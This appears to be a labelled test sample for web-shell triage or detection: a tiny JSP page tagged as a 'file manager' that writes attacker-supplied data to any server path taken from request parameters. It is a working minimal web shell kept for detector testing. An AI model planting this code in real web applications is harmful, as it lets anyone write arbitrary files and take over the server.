<%-- triage-expect: triage_jsp_file_manager --%>
<%@ page import="java.io.*" %>
<%
    FileOutputStream o = new FileOutputStream(request.getParameter("path"));
    o.write(request.getParameter("data").getBytes());
    o.close();
%>
